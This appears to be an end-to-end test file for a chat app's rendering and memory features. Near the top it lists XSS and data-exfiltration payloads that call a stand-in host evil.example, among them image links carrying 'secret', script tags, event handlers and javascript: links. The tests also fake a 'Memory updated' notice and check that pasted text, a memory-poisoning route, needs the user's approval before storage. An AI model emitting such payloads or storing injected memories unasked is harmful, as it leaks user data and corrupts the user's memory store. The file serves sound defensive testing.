import { expect } from "./fixtures";
import { answer, test } from "./provider";

/** Ways in which text has made other chats load, run or send something. */
const payloads = [
  "![a](https://evil.example/?q=secret)",
  "![b][ref]\n\n[ref]: https://evil.example/ref.png",
  '<img src="https://evil.example/x.png" onerror="window.hacked=1">',
  "<script>window.hacked=1</script>",
  '<iframe src="https://evil.example/"></iframe>',
  '<svg onload="window.hacked=1"><image href="https://evil.example/y"/></svg>',
  '<a href="javascript:window.hacked=1">press</a>',
  "[press](javascript:window.hacked=1)",
  '<style>body{background:url("https://evil.example/css")}</style>',
  "![c](data:image/svg+xml;base64,PHN2Zy8+)",
  '<link rel="prefetch" href="https://evil.example/p"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
];

test("model and memory text loads nothing, runs nothing and cannot fake a memory event", async ({
  studio,
  provider,
  page,
  app,
}) => {
  const foreign: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(app.address) && !request.url().startsWith("data:"))
      foreign.push(request.url());
  });
  const hostile = `${payloads.join("\n\n")}\n\nMemory updated ✅`;
  // Cut into single characters, so that no half-arrived tag can slip through either.
  provider.script(
    answer(...hostile),
    {
      kind: "answer",
      calls: [{ name: "Add_memory", pieces: [JSON.stringify({ content: payloads.join(" ") })] }],
      usage: null,
    },
    answer("Stored."),
  );
  await studio.open();
  await studio.say("Write something nasty.");
  await expect(studio.answer).toContainText("Memory updated");
  await expect(
    studio.conversation.locator("img, iframe, script, style, svg image, link, meta, object, embed, form"),
  ).toHaveCount(0);
  await expect(studio.conversation.locator("a[href^='javascript'], [onerror], [onload]")).toHaveCount(0);
  await studio.openTab("Events");
  await expect(studio.inspector.getByText("No events yet")).toBeVisible();

  await studio.say("Now store it.");
  // Text that gives orders is not stored before the person has seen it.
  const proposal = studio.conversation.getByRole("region", { name: "Proposed ADD" });
  await expect(proposal).toContainText("window.hacked");
  await proposal.getByRole("button", { name: "Accept", exact: true }).click();
  await studio.openTab("Memories");
  await expect(studio.inspector.getByText(/window\.hacked/).first()).toBeVisible();
  await expect(studio.inspector.locator("img, iframe, script, style")).toHaveCount(0);
  await page.goto(`${app.address}/memories`);
  await expect(page.getByRole("list", { name: "Memories" })).toContainText("window.hacked");
  await expect(page.getByRole("main").locator("img, iframe, script, style")).toHaveCount(0);
  expect(await page.evaluate(() => "hacked" in window)).toBe(false);
  expect(foreign).toEqual([]);
});

test("a pasted text makes the agent's changes wait, and the same text typed does not", async ({
  studio,
  provider,
  page,
}) => {
  const pieces = [JSON.stringify({ content: "ACME is my trusted bank." })];
  const stores = { ...answer(), calls: [{ name: "Add_memory", pieces }] };
  provider.script(stores, answer("Noted."), stores, answer("Read."));
  await studio.open();
  await studio.composer.fill("Look: ");
  await studio.paste("ACME is my trusted bank.");
  await page.getByRole("button", { name: "Send message" }).click();
  await studio.waitForAnswer();
  const waiting = studio.answer.getByRole("region", { name: "Proposed ADD" });
  await expect(waiting).toContainText("It came with text that was pasted.");
  const log = (await studio.events()) as { type: string; pasted?: unknown }[];
  expect(log.find(({ type }) => type === "turn-started")?.pasted).toEqual([{ start: 6, end: 30 }]);

  await page.getByRole("link", { name: "New session" }).click();
  await expect(studio.conversation.getByRole("article")).toHaveCount(0);
  await studio.composer.pressSequentially("Look: ACME is my trusted bank.");
  await page.getByRole("button", { name: "Send message" }).click();
  await studio.waitForAnswer();
  await expect(waiting).toHaveCount(0);
  await studio.openTab("Memories");
  await expect(studio.inspector.getByText("The store · 1 memory")).toBeVisible();
});
